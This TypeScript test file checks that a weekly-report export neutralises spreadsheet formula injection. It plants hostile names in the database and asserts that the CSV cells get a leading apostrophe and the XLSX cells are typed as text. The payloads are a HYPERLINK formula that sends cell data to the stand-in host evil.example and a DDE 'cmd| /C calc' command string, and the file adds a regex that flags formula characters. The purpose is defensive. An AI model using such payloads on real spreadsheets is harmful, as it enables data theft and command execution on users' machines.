import type { NestFastifyApplication } from '@nestjs/platform-fastify';
import ExcelJS from 'exceljs';
import { signIn } from './support/factories';
import { createTestApp } from './support/test-app';
import { createTestDatabase, TestDatabase } from './support/test-database';
import { buildPortfolio, FIXED_NOW, Portfolio, REPORT_WEEK } from './weekly-report.fixture';

/** Cells of one CSV line; enough for the quoted cells written here (no line breaks inside). */
function cellsOf(line: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const char = line[i];
    if (quoted && char === '"' && line[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (char === '"') quoted = !quoted;
    else if (char === ',' && !quoted) {
      cells.push(cell);
      cell = '';
    } else cell += char;
  }
  return [...cells, cell];
}

const FORMULA_PROJECT = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看详情")';
const FORMULA_MILESTONE = '@SUM(A1:A9)';
const FORMULA_UNIT = '-2+3+cmd|\' /C calc\'!A0';

describe('weekly report exports: text that starts like a formula never runs in Excel/WPS', () => {
  let database: TestDatabase;
  let app: NestFastifyApplication;
  let portfolio: Portfolio;
  let supervisor: { authorization: string };
  const url = `/api/v1/reports/weekly/${REPORT_WEEK}`;

  beforeAll(async () => {
    database = await createTestDatabase();
    portfolio = await buildPortfolio(database.dataSource);
    // What a careless or hostile editor could type into the project, milestone and unit names.
    await database.dataSource.query(`UPDATE projects SET name = $2 WHERE id = $1`, [portfolio.projects.P4.id, FORMULA_PROJECT]);
    await database.dataSource.query(`UPDATE milestones SET name = $2 WHERE id = $1`, [portfolio.milestones.P4m1.id, FORMULA_MILESTONE]);
    await database.dataSource.query(`UPDATE departments SET name = $2 WHERE id = $1`, [portfolio.units.A.id, FORMULA_UNIT]);
    app = await createTestApp(database, { KPT_FIXED_NOW: FIXED_NOW });
    supervisor = await signIn(app, portfolio.users.supervisor.username);
    const built = await app.inject({ method: 'POST', url: `${url}/build`, headers: supervisor });
    expect(built.statusCode).toBeLessThan(300);
  });

  afterAll(async () => {
    await app?.close();
    await database?.drop();
  });

  const csv = async (section: string) => {
    const response = await app.inject({ method: 'GET', url: `${url}?format=csv&section=${section}`, headers: supervisor });
    expect(response.statusCode).toBe(200);
    return response.rawPayload.subarray(3).toString('utf8').split('\r\n').filter(Boolean).map(cellsOf);
  };

  it('CSV: the formula-like names get a leading apostrophe; the numbers beside them stay numbers', async () => {
    const [header, ...rows] = await csv('overdue');
    const project = header.indexOf('项目名称');
    const milestone = header.indexOf('节点');
    const unit = header.indexOf('责任单位');
    const row = rows.find((cells) => cells[project].includes('HYPERLINK'))!;
    expect(row[project]).toBe(`'${FORMULA_PROJECT}`);
    expect(row[milestone]).toBe(`'${FORMULA_MILESTONE}`);
    expect(row[unit]).toBe(`'${FORMULA_UNIT}`);
    expect(row[7]).toBe('15'); // working days late, a number as before

    // every section: no text cell of ours starts with a formula character
    for (const section of ['overview', 'columns', 'owner-units', 'kinds', 'overdue', 'project-lights', 'ranking', 'notices']) {
      for (const cells of await csv(section)) {
        for (const cell of cells) {
          if (/^[=+@\t\r]/.test(cell) || (/^-/.test(cell) && !/^-\d+(\.\d+)?$/.test(cell))) throw new Error(`${section}: raw formula cell ${cell}`);
        }
      }
    }
    const units = await csv('owner-units');
    expect(units.map((cells) => cells[0])).toContain(`'${FORMULA_UNIT}`);
  });

  it('XLSX: the same names are typed text cells, unchanged and without a formula', async () => {
    const response = await app.inject({ method: 'GET', url: `${url}?format=xlsx`, headers: supervisor });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet('逾期节点')!;
    const cells: ExcelJS.Cell[] = [];
    sheet.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
    for (const name of [FORMULA_PROJECT, FORMULA_MILESTONE, FORMULA_UNIT]) {
      const cell = cells.find((candidate) => candidate.value === name);
      expect({ name, type: cell?.type, formula: cell?.formula }).toEqual({ name, type: ExcelJS.ValueType.String, formula: undefined });
    }
    expect(cells.some((cell) => cell.type === ExcelJS.ValueType.Formula)).toBe(false);
  });
});
